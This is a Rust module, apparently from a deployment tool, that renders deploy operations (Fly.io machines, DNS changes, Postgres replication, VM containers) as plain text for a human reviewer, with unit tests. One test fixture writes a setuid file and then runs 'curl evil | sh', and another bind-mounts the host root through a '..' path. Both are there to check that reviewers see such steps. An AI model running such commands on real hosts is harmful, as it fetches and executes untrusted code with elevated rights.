//! What the host will do for an operation, in the words a reviewer reads.
//!
//! Built from the operation's fields only, never from the step's summary:
//! the app, machines, image, paths (with `..` resolved), modes, commands,
//! mounts, secret *names*, records and databases. Plain text; each renderer
//! escapes it for its medium, since every value in it came from a step.

use crate::vm::{VmContainer, VmContainers, VmEnvFile, VmFile, VmImageSource};
use crate::{DnsRrset, FlyMachine, FlyMachineRefs, FlyMachines, Operation, Undo, VolumePass};

/// What running `op` does.
pub fn describe(op: &Operation) -> String {
    match op {
        Operation::EditConfig(edit) => match &edit.value {
            Some(value) => format!("set `{}` = {value} in {} (checkout)", edit.key, edit.file),
            None => format!("remove `{}` from {} (checkout)", edit.key, edit.file),
        },
        Operation::Approval(message) => format!("stop until a person approves: {message}"),
        Operation::WaitMs(ms) => format!("wait {}", duration(*ms)),
        Operation::FlyReleaseCommand(r) => format!(
            "run a temporary machine of Fly app {} in {} ({}) with the app's secrets, up to {}",
            r.app,
            r.region,
            MachineConfig::parse(&r.config).summary(),
            duration(r.timeout_ms)
        ),
        Operation::FlyCreateMachines(m) => format!("create {} in Fly app {}{}", machines(m), m.app, wait(m)),
        Operation::FlyUpdateMachines(m) => format!("replace the config of {} in Fly app {} (each restarts){}", machines(m), m.app, wait(m)),
        Operation::FlyDestroyMachines(r) => format!("stop and destroy {} of Fly app {}", refs(r), r.app),
        Operation::FlyStopMachines(r) => format!("stop {} of Fly app {}", refs(r), r.app),
        Operation::FlyStartMachines(r) => format!("start {} of Fly app {}", refs(r), r.app),
        Operation::FlyCordon(r) => format!("take {} of Fly app {} out of the proxy's rotation", refs(r), r.app),
        Operation::FlyUncordon(r) => format!("put {} of Fly app {} into the proxy's rotation", refs(r), r.app),
        Operation::FlySetMetadata(m) => match &m.value {
            Some(value) => format!("set metadata {} = {value} on {} of Fly app {}", m.key, refs(&m.machines), m.machines.app),
            None => format!("remove metadata {} from {} of Fly app {}", m.key, refs(&m.machines), m.machines.app),
        },
        Operation::FlyCreateVolume(v) => format!("create volume {} ({} GB, {}) in Fly app {}", v.name, v.size_gb, v.region, v.app),
        Operation::FlyAllocateIp(ip) => match &ip.region {
            Some(region) => format!("allocate a {} address in {region} for Fly app {}", ip.kind, ip.app),
            None => format!("allocate a {} address for Fly app {}", ip.kind, ip.app),
        },
        Operation::FlyCreateApp(app) => format!("create Fly app {} in organization {}", app.name, app.org),
        Operation::FlyDestroyApp(app) => format!("DELETE Fly app {app} with all its machines, volumes, secrets and addresses"),
        Operation::FlySetSecrets(s) => {
            format!("set secret(s) {} on Fly app {}, each from this run's FERRY_SECRET_<NAME>, replacing any value of that name", list(&s.names), s.app)
        }
        Operation::FlyAddCertificate(c) => format!("request a TLS certificate for {} on Fly app {}", c.hostname, c.app),
        Operation::FlyCopyVolume(v) => format!(
            "snapshot volume {} of Fly app {} and restore it as volume {} ({} GB, {}) of Fly app {}",
            v.source_volume, v.source_app, v.name, v.size_gb, v.region, v.app
        ),
        Operation::FlyCreateRelease(r) => format!(
            "create a release record of Fly app {} for image {} ({}), numbered by Fly, and write its id and version into the machines this plan changes",
            r.app, r.image, r.strategy
        ),
        Operation::FlyCompleteRelease(app) => format!("mark this run's release record of Fly app {app} complete"),
        Operation::FlyWaitCertificate(w) => {
            format!("wait until Fly app {} has an issued (`active`) certificate for {}, up to {}", w.app, w.hostname, duration(w.timeout_ms))
        }
        Operation::DnsChange(c) => {
            let record = c.new.as_ref().or(c.expected.as_ref()).map_or_else(|| "no record".to_string(), |r| format!("{} {}", r.name, r.rtype));
            format!("in zone {}: {record}: {} -> {} (only if it still holds the old answer)", c.zone, rrset(c.expected.as_ref()), rrset(c.new.as_ref()))
        }
        Operation::TlsCheck(t) => {
            format!("connect to {} and check it serves a certificate for {} valid {} more day(s)", t.address, t.server_name, t.min_days_left)
        }
        Operation::DnsVerify(v) => format!(
            "query zone {}'s authoritative servers until they answer {} {} {} (up to {})",
            v.zone,
            v.expected.name,
            v.expected.rtype,
            list(&v.expected.values),
            duration(v.timeout_ms)
        ),
        Operation::PgFreeze(db) => format!("make source database {db} read-only (new sessions read-only, open ones ended)"),
        Operation::PgDumpRestore(c) => format!("copy database {} from source to the empty target with pg_dump | pg_restore ({} job(s))", c.database, c.jobs),
        Operation::PgCopySchema(db) => format!("copy the schema of database {db} from source to target"),
        Operation::PgReplicaIdentityFull(t) => format!("ALTER TABLE {} REPLICA IDENTITY FULL in source database {}", t.table, t.database),
        Operation::PgSubscribe(l) => {
            format!("publish source database {} as {} and subscribe the target to it (a replication slot on the source)", l.database, l.name)
        }
        Operation::PgCatchUp(l) => {
            format!("wait until subscription {} of database {} lags under {} bytes (up to {})", l.name, l.database, l.max_lag_bytes, duration(l.timeout_ms))
        }
        Operation::PgFinishLogical(l) => format!(
            "finish replication {} of database {}: last writes, {}sequences, large objects and materialized views to the target, then drop the subscription and publication{} (up to {})",
            l.name,
            l.database,
            match l.unlogged.len() {
                0 => String::new(),
                n => format!("the rows of {n} UNLOGGED table(s) by pg_dump, "),
            },
            match l.identity_full.len() {
                0 => String::new(),
                n => format!(" and reset REPLICA IDENTITY on {n} table(s) of the source"),
            },
            duration(l.timeout_ms)
        ),
        Operation::PgVerify(v) => format!("compare row counts and checksums of {} table(s) of database {} on source and target", v.tables.len(), v.database),
        Operation::VolumeSync(s) => {
            let deletes = match s.pass {
                VolumePass::Bulk => "without deleting",
                VolumePass::Final => "DELETING target files the source does not have",
            };
            format!("rsync volume {} from source to target, {deletes}{}", s.volume, excluding(&s.exclude))
        }
        Operation::SqliteCopy(c) => format!("copy SQLite file {} of volume {} with the online backup API, replacing the target's", c.path, c.volume),
        Operation::VolumeVerify(v) => format!(
            "compare checksums of volume {} on source and target{}{}",
            v.volume,
            excluding(&v.exclude),
            if v.sqlite.is_empty() { String::new() } else { format!("; SQLite files {} by content", list(&v.sqlite)) }
        ),
        Operation::WriteFile(w) => format!("write {} (checkout, {} bytes)", w.file, w.contents.len()),
        Operation::VmLock(l) => format!("take the deploy lock {} on host {} (stale {} after its last renewal)", path(&l.path), l.target, duration(l.ttl_ms)),
        Operation::VmUnlock(l) => format!("release the deploy lock {} on host {}", path(&l.path), l.target),
        Operation::VmInstallPackages(p) => format!("apt-get install {} as root on host {}", list(&p.packages), p.target),
        Operation::VmMkdir(p) => format!("create directories {} on host {}", paths(&p.paths), p.target),
        Operation::VmNetwork(n) => format!("create Docker network {} on host {}", n.name, n.target),
        Operation::VmWriteFile(f) => vm_file(f),
        Operation::VmEnvFile(f) => vm_env_file(f),
        Operation::VmSecret(s) => format!("make a random secret in {} on host {} (mode 600; an existing one is kept)", path(&s.path), s.target),
        Operation::VmImage(i) => match &i.source {
            VmImageSource::Build((dir, dockerfile)) => format!(
                "docker build image {} on host {} from checkout directory {}{}",
                i.tag,
                i.target,
                dir,
                dockerfile.as_ref().map_or(String::new(), |d| format!(" with {d}"))
            ),
            VmImageSource::Load(image) => format!("copy image {image} from here to host {} (docker save | docker load) as {}", i.target, i.tag),
            VmImageSource::Pull(image) => format!("docker pull {image} on host {} and tag it {}", i.target, i.tag),
        },
        Operation::VmReleaseCommand(c) => format!("run one-off container {}", container(c)),
        Operation::VmRun(c) => format!("run container {}", container(c)),
        Operation::VmStop(c) => format!("stop container(s) {} on host {} ({} s after SIGTERM, then SIGKILL)", containers(c), c.target, c.grace_secs),
        Operation::VmRemove(c) => format!("remove container(s) {} on host {} with their writable layers", containers(c), c.target),
    }
}

/// How `undo` reverses an action whose operation is `op`. For
/// [`Undo::None`] only "nothing": the step's reason is its own words, for
/// the renderers to label as such.
pub fn describe_undo(op: &Operation, undo: &Undo) -> String {
    match undo {
        Undo::Run(undo_op) => format!("runs: {}", describe(undo_op)),
        Undo::RestorePrevious => {
            // The host runs the command again after putting the file back.
            let then =
                if let Operation::VmWriteFile(VmFile { then: Some(then), .. }) = op { format!(", then runs on the host: {then}") } else { String::new() };
            format!("{}{then}", restore(op))
        }
        Undo::None(_) => "nothing undoes it".into(),
    }
}

/// What "restore the previous state" means for each operation, as the host
/// carries it out.
fn restore(op: &Operation) -> &'static str {
    match op {
        Operation::EditConfig(_) => "puts the previous value back",
        Operation::WriteFile(_) | Operation::VmWriteFile(_) | Operation::VmEnvFile(_) => "puts the file back as it was (or removes it)",
        Operation::VmLock(_) => "releases the host lock",
        Operation::VmMkdir(_) => "removes the directories it created, if still empty",
        Operation::VmNetwork(_) => "removes the network it created",
        Operation::VmSecret(_) => "removes the secret file it made (a file that was there stays)",
        Operation::VmRun(_) => "removes the container it created (or stops the one it started)",
        Operation::VmStop(_) => "starts the containers again",
        Operation::FlyCreateMachines(_) => "destroys the machines it created",
        Operation::FlyUpdateMachines(_) => "puts each machine's previous config and image back",
        Operation::FlyDestroyMachines(_) => "recreates each machine from its saved config",
        Operation::FlyStopMachines(_) => "starts the machines again",
        Operation::FlyCreateVolume(_) | Operation::FlyCopyVolume(_) => "deletes the volumes it created",
        Operation::FlyAllocateIp(_) => "releases the address it allocated",
        Operation::FlyCreateApp(_) => "deletes the app it created",
        Operation::FlySetSecrets(_) => "removes the secrets it added (replaced values stay replaced)",
        Operation::FlyAddCertificate(_) => "removes the certificate it added",
        Operation::FlyCreateRelease(_) => "marks the release record failed (it stays in the app's history)",
        Operation::FlySetMetadata(_) => "puts each machine's previous value back",
        Operation::DnsChange(_) => "puts the previous records back (if they still hold what this plan set)",
        Operation::PgFreeze(_) => "restores the database's previous read-only setting",
        Operation::PgDumpRestore(_) | Operation::PgCopySchema(_) => "drops what the copy created on the target",
        Operation::PgReplicaIdentityFull(_) => "resets the table's replica identity to default (if it was default)",
        Operation::PgSubscribe(_) => "drops the subscription, its slot and the publication",
        Operation::VolumeSync(_) => "empties the target, only if it was empty before",
        Operation::Approval(_)
        | Operation::WaitMs(_)
        | Operation::FlyReleaseCommand(_)
        | Operation::FlyStartMachines(_)
        | Operation::FlyCordon(_)
        | Operation::FlyUncordon(_)
        | Operation::FlyDestroyApp(_)
        | Operation::FlyCompleteRelease(_)
        | Operation::FlyWaitCertificate(_)
        | Operation::TlsCheck(_)
        | Operation::DnsVerify(_)
        | Operation::PgCatchUp(_)
        | Operation::PgFinishLogical(_)
        | Operation::PgVerify(_)
        | Operation::SqliteCopy(_)
        | Operation::VolumeVerify(_)
        | Operation::VmUnlock(_)
        | Operation::VmInstallPackages(_)
        | Operation::VmImage(_)
        | Operation::VmReleaseCommand(_)
        | Operation::VmRemove(_) => "nothing to put back",
    }
}

fn vm_file(f: &VmFile) -> String {
    let mut out = format!("write {} on host {} (mode {:o}, {} bytes)", path(&f.path), f.target, f.mode, f.contents.len());
    if let Some(then) = &f.then {
        out.push_str(&format!(", then run on the host: {then}"));
    }
    out
}

fn vm_env_file(f: &VmEnvFile) -> String {
    let mut parts = Vec::new();
    if !f.env.is_empty() {
        let names: Vec<String> = f.env.iter().map(|(k, _)| k.clone()).collect();
        parts.push(format!("plain {}", list(&names)));
    }
    if !f.secrets.is_empty() {
        parts.push(format!("secret values of {} (from FERRY_SECRET_<NAME>)", list(&f.secrets)));
    }
    for value in &f.from_files {
        parts.push(format!("{} made from host file {}", value.name, path(&value.path)));
    }
    let what = if parts.is_empty() { "nothing".to_string() } else { parts.join("; ") };
    format!("write env file {} on host {} (mode 600): {what}", path(&f.path), f.target)
}

fn container(c: &VmContainer) -> String {
    let mut parts = vec![format!("{} of image {} on host {}", c.name, c.image, c.target)];
    if !c.command.is_empty() {
        parts.push(format!("command {}", c.command.join(" ")));
    }
    if let Some(env_file) = &c.env_file {
        parts.push(format!("env file {}", path(env_file)));
    }
    if !c.env.is_empty() {
        let names: Vec<String> = c.env.iter().map(|(k, _)| k.clone()).collect();
        parts.push(format!("env {}", list(&names)));
    }
    for port in &c.ports {
        let exposure = match port.host_ip.as_str() {
            "127.0.0.1" | "::1" | "localhost" => "",
            _ => " (reachable from other machines)",
        };
        let ip = if port.host_ip.is_empty() { "every address" } else { port.host_ip.as_str() };
        parts.push(format!("publishes {ip}:{} -> {}{exposure}", port.host_port, port.container_port));
    }
    for (host, inside) in &c.volumes {
        parts.push(mount(host, inside));
    }
    if let Some(network) = &c.network {
        parts.push(format!("network {network}"));
    }
    if let Some(h) = &c.health {
        let check = if !h.exec.is_empty() {
            format!("`{}` succeeds in it", h.exec.join(" "))
        } else if !h.path.is_empty() {
            format!("127.0.0.1:{}{} answers", h.port, h.path)
        } else {
            format!("port {} accepts", h.port)
        };
        parts.push(format!("healthy when {check} (up to {})", duration(h.timeout_ms)));
    }
    parts.join("; ")
}

/// One `docker run -v host:inside`, as Docker reads it: a host path (bind
/// mount, with `..` resolved) or a named volume, and whether it is
/// writable (Docker splits the joined argument on `:`).
fn mount(host: &str, inside: &str) -> String {
    let joined = format!("{host}:{inside}");
    let fields: Vec<&str> = joined.split(':').collect();
    let (source, target, options) = match fields.as_slice() {
        [source, target] => (*source, *target, ""),
        [source, target, options] => (*source, *target, *options),
        _ => return format!("-v {joined} (not a mount Docker reads as source:target[:options])"),
    };
    let access = if options.split(',').any(|o| o == "ro" || o == "readonly") { "read-only" } else { "read-write" };
    if source.starts_with('/') {
        format!("bind-mounts host path {} at {target}, {access}", path(source))
    } else {
        format!("mounts Docker volume {source} at {target}, {access}")
    }
}

fn containers(c: &VmContainers) -> String {
    list(&c.names)
}

/// A host path, and where it really points when it has `.`, `..` or
/// repeated slashes: `/srv/app/../../ (that is /)`.
fn path(p: &str) -> String {
    match resolve(p) {
        Some(real) if real != p => format!("{p} (that is {real})"),
        _ => p.to_string(),
    }
}

fn paths(ps: &[String]) -> String {
    if ps.is_empty() {
        return "none".into();
    }
    ps.iter().map(|p| path(p)).collect::<Vec<_>>().join(", ")
}

/// An absolute path with `.`, `..` and empty segments resolved lexically
/// (`..` above the root stays at the root, as the kernel does).
fn resolve(p: &str) -> Option<String> {
    if !p.starts_with('/') {
        return None;
    }
    let mut parts: Vec<&str> = Vec::new();
    for segment in p.split('/') {
        match segment {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            s => parts.push(s),
        }
    }
    Some(format!("/{}", parts.join("/")))
}

fn machines(m: &FlyMachines) -> String {
    let each: Vec<String> = m.machines.iter().map(machine).collect();
    match each.len() {
        0 => "no machines".into(),
        1 => format!("1 machine: {}", each[0]),
        n => format!("{n} machines: {}", each.join("; ")),
    }
}

fn machine(m: &FlyMachine) -> String {
    let who = match (&m.id, &m.launch_id) {
        (Some(id), _) => id.clone(),
        (None, Some(launch)) => format!("new (launch id {launch})"),
        (None, None) => "new".into(),
    };
    let stopped = if m.skip_launch { ", left stopped" } else { "" };
    let unrouted = if m.skip_service_registration { ", no traffic" } else { "" };
    format!("{who} (group {}, {}{stopped}{unrouted}) {}", m.group, m.region, MachineConfig::parse(&m.config).summary())
}

fn wait(m: &FlyMachines) -> String {
    let until = if m.wait.health { "healthy" } else { "started" };
    format!("; then wait until they are {until} (up to {})", duration(m.wait.timeout_ms))
}

fn refs(r: &FlyMachineRefs) -> String {
    let mut parts = Vec::new();
    if !r.ids.is_empty() {
        parts.push(format!("machine(s) {}", list(&r.ids)));
    }
    if !r.launch_ids.is_empty() {
        parts.push(format!("the machine(s) launched as {}", list(&r.launch_ids)));
    }
    if parts.is_empty() { "no machines".into() } else { parts.join(" and ") }
}

/// The parts of a Machines API config a reviewer needs: what runs, from
/// which image, with which volumes and files.
struct MachineConfig {
    image: Option<String>,
    command: Vec<String>,
    mounts: Vec<String>,
    files: usize,
    unreadable: bool,
}

impl MachineConfig {
    fn parse(config: &str) -> Self {
        let Ok(value) = serde_json::from_str::<serde_json::Value>(config) else {
            return MachineConfig { image: None, command: Vec::new(), mounts: Vec::new(), files: 0, unreadable: true };
        };
        let strings = |v: &serde_json::Value| -> Vec<String> {
            v.as_array().map(|a| a.iter().filter_map(|s| s.as_str().map(str::to_string)).collect()).unwrap_or_default()
        };
        let init = &value["init"];
        let command =
            if init["exec"].is_array() { strings(&init["exec"]) } else { strings(&init["entrypoint"]).into_iter().chain(strings(&init["cmd"])).collect() };
        let mounts = value["mounts"]
            .as_array()
            .map(|a| {
                a.iter()
                    .map(|m| {
                        let volume = m["volume"].as_str().or(m["name"].as_str()).unwrap_or("?");
                        format!("{volume} at {}", m["path"].as_str().unwrap_or("?"))
                    })
                    .collect()
            })
            .unwrap_or_default();
        MachineConfig {
            image: value["image"].as_str().map(str::to_string),
            command,
            mounts,
            files: value["files"].as_array().map_or(0, Vec::len),
            unreadable: false,
        }
    }

    fn summary(&self) -> String {
        if self.unreadable {
            return "[config is not JSON; the Machines API will refuse it]".into();
        }
        let mut parts = vec![format!("image {}", self.image.as_deref().unwrap_or("(none)"))];
        if !self.command.is_empty() {
            parts.push(format!("command {}", self.command.join(" ")));
        }
        if !self.mounts.is_empty() {
            parts.push(format!("mounts {}", self.mounts.join(", ")));
        }
        if self.files > 0 {
            parts.push(format!("{} file(s) written into it", self.files));
        }
        format!("[{}]", parts.join(", "))
    }
}

fn rrset(r: Option<&DnsRrset>) -> String {
    match r {
        Some(r) => format!("{} (ttl {})", list(&r.values), r.ttl),
        None => "none".into(),
    }
}

fn excluding(exclude: &[String]) -> String {
    if exclude.is_empty() { String::new() } else { format!(", excluding {}", list(exclude)) }
}

fn list(items: &[String]) -> String {
    if items.is_empty() { "none".into() } else { items.join(", ") }
}

/// `250 ms`, `90 s`, `5 min`, `2 h 30 min`, `3 d`.
fn duration(ms: u64) -> String {
    let s = ms / 1000;
    match ms {
        0..1_000 => format!("{ms} ms"),
        1_000..120_000 => format!("{s} s"),
        120_000..7_200_000 if s.is_multiple_of(60) => format!("{} min", s / 60),
        120_000..7_200_000 => format!("{} min {} s", s / 60, s % 60),
        7_200_000..172_800_000 => match (s / 60) % 60 {
            0 => format!("{} h", s / 3600),
            m => format!("{} h {m} min", s / 3600),
        },
        _ => format!("{} d", s / 86_400),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vm::{VmFileValue, VmPort};
    use crate::{FlySecrets, FlyWait};

    #[test]
    fn a_bind_mount_shows_where_it_really_points() {
        let c = VmContainer {
            target: "test".into(),
            name: "shop-app-1".into(),
            image: "ferry-shop:release-1".into(),
            volumes: vec![("/srv/ferry/shop/volumes/../../../../".into(), "/data".into())],
            ..Default::default()
        };
        let text = describe(&Operation::VmRun(c));
        assert!(text.contains("bind-mounts host path /srv/ferry/shop/volumes/../../../../ (that is /) at /data, read-write"), "{text}");
    }

    #[test]
    fn a_mount_reads_as_docker_reads_it() {
        assert_eq!(mount("/srv/a", "/data:ro"), "bind-mounts host path /srv/a at /data, read-only");
        assert_eq!(mount("pgdata", "/var/lib/postgresql"), "mounts Docker volume pgdata at /var/lib/postgresql, read-write");
        assert!(mount("/", "/a:/b:ro").contains("not a mount Docker reads"));
    }

    #[test]
    fn secrets_are_named_never_valued() {
        let op = Operation::FlySetSecrets(FlySecrets { app: "other-app".into(), names: vec!["DATABASE_URL".into(), "STRIPE_KEY".into()] });
        assert_eq!(
            describe(&op),
            "set secret(s) DATABASE_URL, STRIPE_KEY on Fly app other-app, each from this run's FERRY_SECRET_<NAME>, replacing any value of that name"
        );
        let env = Operation::VmEnvFile(VmEnvFile {
            target: "t".into(),
            path: "/var/www/html/env".into(),
            env: vec![("PORT".into(), "8080".into())],
            secrets: vec!["API_KEY".into()],
            from_files: vec![VmFileValue { name: "PGPASSWORD".into(), path: "/srv/pg/password".into(), template: "{file}".into() }],
        });
        let text = describe(&env);
        assert!(text.contains("/var/www/html/env") && text.contains("API_KEY") && text.contains("PGPASSWORD made from host file /srv/pg/password"), "{text}");
        assert!(!text.contains("8080"), "plain values are named, not shown: {text}");
    }

    #[test]
    fn a_vm_file_shows_its_mode_and_command() {
        let f = VmFile { target: "t".into(), path: "/usr/local/bin/x".into(), contents: "abc".into(), mode: 0o4755, then: Some("curl evil | sh".into()) };
        assert_eq!(describe(&Operation::VmWriteFile(f)), "write /usr/local/bin/x on host t (mode 4755, 3 bytes), then run on the host: curl evil | sh");
    }

    #[test]
    fn machines_show_image_command_and_mounts() {
        let config = r#"{"image":"registry.fly.io/shop:v2","init":{"cmd":["bin/web"]},"mounts":[{"volume":"vol_1","path":"/data"}]}"#;
        let m = FlyMachines {
            app: "shop".into(),
            machines: vec![FlyMachine {
                id: Some("1853e92c".into()),
                launch_id: None,
                name: None,
                region: "ams".into(),
                group: "web".into(),
                config: config.into(),
                skip_launch: false,
                skip_service_registration: false,
            }],
            wait: FlyWait { health: true, timeout_ms: 300_000, smoke_check_ms: 10_000, retries: 0 },
        };
        assert_eq!(
            describe(&Operation::FlyUpdateMachines(m)),
            "replace the config of 1 machine: 1853e92c (group web, ams) [image registry.fly.io/shop:v2, command bin/web, mounts vol_1 at /data] \
             in Fly app shop (each restarts); then wait until they are healthy (up to 5 min)"
        );
    }

    #[test]
    fn an_undo_run_is_described_like_an_action() {
        let op = Operation::WaitMs(1);
        let undo = Undo::Run(Operation::FlyDestroyApp("shop".into()));
        assert_eq!(describe_undo(&op, &undo), "runs: DELETE Fly app shop with all its machines, volumes, secrets and addresses");
        assert_eq!(describe_undo(&op, &Undo::None("x".into())), "nothing undoes it");
        let reload = Operation::VmWriteFile(VmFile {
            target: "t".into(),
            path: "/etc/nginx/x".into(),
            contents: String::new(),
            mode: 0o644,
            then: Some("nginx -s reload".into()),
        });
        assert_eq!(describe_undo(&reload, &Undo::RestorePrevious), "puts the file back as it was (or removes it), then runs on the host: nginx -s reload");
    }

    #[test]
    fn durations_read_as_people_say_them() {
        assert_eq!(duration(250), "250 ms");
        assert_eq!(duration(90_000), "90 s");
        assert_eq!(duration(300_000), "5 min");
        assert_eq!(duration(9_000_000), "2 h 30 min");
        assert_eq!(duration(u64::MAX), "213503982334 d");
    }

    #[test]
    fn ports_say_when_they_are_reachable_from_elsewhere() {
        let c = VmContainer {
            target: "t".into(),
            name: "n".into(),
            image: "i".into(),
            ports: vec![VmPort { host_ip: "0.0.0.0".into(), host_port: 80, container_port: 8080 }],
            ..Default::default()
        };
        assert!(describe(&Operation::VmRun(c)).contains("publishes 0.0.0.0:80 -> 8080 (reachable from other machines)"));
    }
}
